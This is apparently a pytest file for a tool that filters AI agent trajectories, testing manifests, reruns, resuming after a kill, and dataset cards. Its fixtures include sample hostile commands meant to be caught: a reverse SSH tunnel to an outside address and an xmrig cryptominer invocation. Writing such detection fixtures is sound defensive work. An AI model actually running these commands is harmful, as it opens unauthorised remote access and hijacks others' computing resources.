"""Config-driven reruns: complete manifests, --from-manifest, --resume after a kill, dataset cards."""
from __future__ import annotations

import gzip
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from safefilter import manifest as manifest_module
from safefilter import rerun as rerun_module
from safefilter.cli import main
from safefilter.manifest import classifier_record, model_sha256
from safefilter.rerun import find_changes
from safefilter.resume import TEST_DELAY_ENV

from conftest import bash, tool, traj

MINI = Path(__file__).parent / "data" / "mini_pack.yaml"
DATA_KINDS = ("clean", "unsafe", "invalid")


def file_records(index: int, n: int = 12) -> list[dict]:
    """n trajectories per file: mostly clean, some tunnels and miners, ids unique across files."""
    out = []
    for i in range(n):
        rid = f"f{index}-r{i}"
        if i % 5 == 1:
            out.append(traj(bash("ssh -fNR 9000:localhost:22 u@203.0.113.9"), rid=rid))
        elif i % 5 == 3:
            out.append(traj(bash("./xmrig -o pool:3333", "m"), tool("[cpu] accepted (1/0)", "m"), rid=rid))
        else:
            out.append(traj(bash(f"pytest -k case{i}"), tool("1 passed"), rid=rid))
    return out


def write_inputs(folder: Path, files: int = 3, n: int = 12) -> list[str]:
    """JSONL inputs with one broken line each (and one gzipped file); returns every record id."""
    folder.mkdir(parents=True, exist_ok=True)
    ids = []
    for index in range(files):
        records = file_records(index, n)
        ids += [r["id"] for r in records]
        lines = [json.dumps(r) for r in records]
        lines.insert(2, '{"broken": ')
        data = ("\n".join(lines) + "\n").encode()
        if index == 1:
            (folder / f"part{index}.jsonl.gz").write_bytes(gzip.compress(data, mtime=0))
        else:
            (folder / f"part{index}.jsonl").write_bytes(data)
    return ids


def write_config(path: Path, inputs: Path, output: Path, pack: Path = MINI, **extra) -> Path:
    config = {"input": str(inputs), "output": str(output), "rules": {"packs": [str(pack)]}, "progress": False,
              **extra}
    path.write_text(yaml.safe_dump(config))
    return path


def data_files(run_dir: Path) -> dict[str, bytes]:
    """Every file under clean/ unsafe/ invalid/ by relative path, with its bytes."""
    return {str(p.relative_to(run_dir)): p.read_bytes()
            for kind in DATA_KINDS for p in sorted((run_dir / kind).rglob("*")) if p.is_file()}


def manifest_of(run_dir: Path) -> dict:
    return json.loads((run_dir / "manifest.json").read_text())


@pytest.fixture
def fixed_code_hash(monkeypatch):
    """The shared working tree changes under a running test; pin safefilter's own source hash."""
    monkeypatch.setattr(manifest_module, "code_sha256", lambda: "0" * 64)
    monkeypatch.setattr(rerun_module, "code_sha256", lambda: "0" * 64)


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_rerun_from_manifest_is_byte_identical(tmp_path, fixed_code_hash, capsys, fmt):
    write_inputs(tmp_path / "in")
    config = write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "first", output_format=fmt,
                          max_records_per_shard=5)
    assert main(["run", "--config", str(config), "--set", "policy.min_severity=high"]) == 0
    first = tmp_path / "first"
    assert main(["run", "--from-manifest", str(first / "manifest.json"), "--output", str(tmp_path / "again")]) == 0
    capsys.readouterr()
    again = tmp_path / "again"
    original, rerun = data_files(first), data_files(again)
    assert len(original) >= 6 and any(name.startswith("invalid/") for name in original)
    assert rerun == original  # same names, same bytes
    for kind in ("clean", "unsafe"):  # cards match too, apart from the manifest path they point to
        card = (first / "cards" / f"{kind}.md").read_text()
        assert (again / "cards" / f"{kind}.md").read_text() == card.replace(str(first), str(again))
    m1, m2 = manifest_of(first), manifest_of(again)
    assert m2["config"] == {**m1["config"], "output": str(again)}
    assert m2["overrides"][:len(m1["overrides"])] == m1["overrides"]
    assert m2["from_manifest"]["path"] == str(first / "manifest.json") and m2["from_manifest"]["changes"] == []
    assert m2["counts"] == m1["counts"]


def test_changed_input_and_rule_pack_are_reported_before_rerun(tmp_path, fixed_code_hash, capsys):
    write_inputs(tmp_path / "in")
    pack = tmp_path / "pack.yaml"
    shutil.copy(MINI, pack)
    config = write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "first", pack=pack)
    assert main(["run", "--config", str(config)]) == 0
    capsys.readouterr()
    changed = tmp_path / "in" / "part0.jsonl"
    changed.write_text(changed.read_text() + json.dumps(traj(bash("ls"), rid="late")) + "\n")
    pack.write_text(pack.read_text().replace("title: Miner binary", "title: A miner binary"))
    manifest = str(tmp_path / "first" / "manifest.json")

    assert main(["run", "--from-manifest", manifest, "--output", str(tmp_path / "again")]) == 2
    err = capsys.readouterr().err
    assert f"input {changed} changed" in err
    assert f"rule pack mini ({pack}) changed" in err
    assert "--allow-changes" in err
    assert not (tmp_path / "again").exists()  # refused before writing anything

    assert main(["run", "--from-manifest", manifest, "--output", str(tmp_path / "again"), "--allow-changes"]) == 0
    assert "warning: rerunning with these changes" in capsys.readouterr().err
    recorded = manifest_of(tmp_path / "again")["from_manifest"]["changes"]
    assert len(recorded) == 2 and manifest_of(tmp_path / "again")["counts"]["input"] == 40


def test_versions_code_model_and_new_config_keys_are_changes(tmp_path):
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text("{}")
    (model / "model.safetensors").write_bytes(b"weights")
    config = {"input": ["x"], "output": "y", "rules": {"packs": [str(MINI)]},
              "classifier": {"enabled": True, "model": str(model)}}
    recorded = {"config": json.loads(json.dumps(config)), "inputs": [], "rule_packs": [],
                "versions": {"pyyaml": "0.0.1"}, "code_sha256": "f" * 64, "classifier": classifier_record(config)}
    config["normalize"] = {"max_decode_depth": 2}
    before = model_sha256(model)
    (model / "model.safetensors").write_bytes(b"weights, retrained")
    assert model_sha256(model) != before
    changes = find_changes(recorded, config)
    assert any(c.startswith(f"classifier model {model.resolve()} changed") for c in changes)
    assert f"pyyaml version 0.0.1 -> {yaml.__version__}" in changes
    assert any("source code changed" in c for c in changes)
    assert any(c.startswith("rule pack mini") and c.endswith("is new") for c in changes)
    assert "config key normalize.max_decode_depth is not in the manifest; today's default 2 applies" in changes
    (model / "model.safetensors").rename(model / "weights.safetensors")  # a rename alone changes the hash
    (model / "weights.safetensors").write_bytes(b"weights")
    assert model_sha256(model) != before


def test_manifest_records_everything_needed_to_rerun(tmp_path, capsys):
    write_inputs(tmp_path / "in")
    config = write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "run")
    assert main(["run", "--config", str(config), "--set", "batch_size=3"]) == 0
    capsys.readouterr()
    m = manifest_of(tmp_path / "run")
    assert m["config"]["normalize"]["max_decode_depth"] == 3  # defaults are resolved in
    assert m["config"]["batch_size"] == 3 and m["overrides"][0] == "batch_size=3"
    assert m["config_file"]["path"] == str(config) and len(m["config_file"]["sha256"]) == 64
    assert m["config"]["rules"]["packs"] == [str(MINI)] and m["rule_packs"][0]["path"] == str(MINI)
    assert [Path(i["path"]).name for i in m["inputs"]] == ["part0.jsonl", "part1.jsonl.gz", "part2.jsonl"]
    assert all(len(i["sha256"]) == 64 for i in m["inputs"])
    assert m["classifier"] is None and len(m["code_sha256"]) == 64 and m["versions"]["pyarrow"]
    assert {"started", "finished", "seconds", "scan_seconds"} <= set(m["timing"])
    c = m["counts"]
    assert (c["input"], c["invalid"]) == (39, 3) and c["categories"] == {"cryptomining": 6, "tunneling": 9}
    for key in ("input", "clean", "unsafe", "invalid"):  # per-input counts add up to the totals
        assert sum(s["counts"].get(key, 0) for s in m["shards"]) == c[key]
    assert not (tmp_path / "run" / "_state").exists()


def test_cards_front_matter_parses_and_matches_manifest(tmp_path, capsys):
    write_inputs(tmp_path / "in")
    assert main(["run", "--config", str(write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "run"))]) == 0
    capsys.readouterr()
    m = manifest_of(tmp_path / "run")
    for kind in ("clean", "unsafe"):
        text = (tmp_path / "run" / "cards" / f"{kind}.md").read_text()
        _, front, body = text.split("---\n", 2)
        meta = yaml.safe_load(front)["safefilter"]
        assert meta["records"] == m["counts"][kind]
        assert meta["run_counts"] == {k: m["counts"][k] for k in ("input", "clean", "unsafe", "invalid")}
        assert meta["detectors"][0]["sha256"] == m["rule_packs"][0]["sha256"]
        assert meta["reproduce"] == f"safefilter run --from-manifest {tmp_path / 'run' / 'manifest.json'}"
        assert meta["reproduce"] in body and "## Known limitations" in body
    unsafe_meta = yaml.safe_load((tmp_path / "run" / "cards" / "unsafe.md").read_text().split("---\n")[1])
    assert unsafe_meta["safefilter"]["categories"] == m["counts"]["categories"]


def ids_in(run_dir: Path) -> list[str]:
    return [json.loads(line)["id"] for kind in ("clean", "unsafe")
            for p in sorted((run_dir / kind).glob("*.jsonl")) for line in p.read_text().splitlines()]


def unfinished_outputs(run_dir: Path) -> list[str]:
    """Shard files (finished or temporary) of input files that have no completion record yet."""
    done = {int(p.stem.split("-")[1]) for p in (run_dir / "_state").glob("input-*.json")}
    names = [name for kind in DATA_KINDS if (run_dir / kind).is_dir() for name in os.listdir(run_dir / kind)]
    return [n for n in names if int(n.split("part-")[1][:5]) not in done]


def test_resume_after_kill_loses_and_duplicates_nothing(tmp_path, capsys):
    ids = write_inputs(tmp_path / "in", files=5, n=12)
    extra = {"batch_size": 2, "max_records_per_shard": 4}
    config = write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "run", **extra)
    env = {**os.environ, TEST_DELAY_ENV: "0.1"}  # each batch sleeps, so the kill lands mid-run
    proc = subprocess.Popen([sys.executable, "-m", "safefilter", "run", "--config", str(config)], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    state = tmp_path / "run" / "_state"
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline and not (
            len(list(state.glob("input-*.json"))) >= 2 and unfinished_outputs(tmp_path / "run")):
        time.sleep(0.01)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert proc.returncode == -signal.SIGKILL and not (tmp_path / "run" / "manifest.json").exists()
    assert unfinished_outputs(tmp_path / "run")  # killed in the middle of an input file
    finished = sorted(p.name for p in state.glob("input-*.json"))
    assert 2 <= len(finished) < 5
    kept = {p: p.stat().st_mtime_ns for kind in DATA_KINDS for p in (tmp_path / "run" / kind).glob("part-0000[01]-*")}

    assert main(["run", "--config", str(config), "--resume"]) == 0
    capsys.readouterr()
    assert {p: p.stat().st_mtime_ns for p in kept} == kept  # finished shards were kept, not redone
    got = ids_in(tmp_path / "run")
    assert sorted(got) == sorted(ids) and len(got) == len(set(got))
    m = manifest_of(tmp_path / "run")
    c = m["counts"]
    assert c["input"] == len(ids) + 5 and c["invalid"] == 5 and c["input"] == c["clean"] + c["unsafe"] + c["invalid"]
    assert m["timing"]["resumed"] and not state.exists()
    assert not list((tmp_path / "run").rglob("*.tmp"))

    straight = write_config(tmp_path / "s.yaml", tmp_path / "in", tmp_path / "straight", **extra)
    assert main(["run", "--config", str(straight)]) == 0
    assert data_files(tmp_path / "run") == data_files(tmp_path / "straight")
    assert m["counts"] == manifest_of(tmp_path / "straight")["counts"]


def test_resume_checks_the_config_and_can_use_the_saved_one(tmp_path, capsys):
    write_inputs(tmp_path / "in")
    config = write_config(tmp_path / "c.yaml", tmp_path / "in", tmp_path / "run")
    run_dir = str(tmp_path / "run")
    assert main(["run", "--config", str(config)]) == 0
    assert main(["run", "--resume", "--output", run_dir]) == 0  # a finished run: nothing to do, not an error
    assert "already complete" in capsys.readouterr().err
    # an interrupted run: marker and state written, no manifest
    from safefilter.config import load_config
    from safefilter.resume import RunState
    from safefilter.rundir import claim

    cfg, _ = load_config(config)
    shutil.rmtree(tmp_path / "run")
    (tmp_path / "run").mkdir()
    claim(tmp_path / "run", overwrite=False, resume=False)
    RunState(tmp_path / "run").begin(cfg, sorted((tmp_path / "in").iterdir()), overrides=[], command=[])
    assert main(["run", "--config", str(config), "--resume", "--set", "policy.min_severity=high"]) == 2
    assert "config differs from the interrupted run's (keys: policy)" in capsys.readouterr().err
    assert main(["run", "--resume", "--output", run_dir]) == 0  # config read from _state/run.json
    assert "input 39" in capsys.readouterr().out
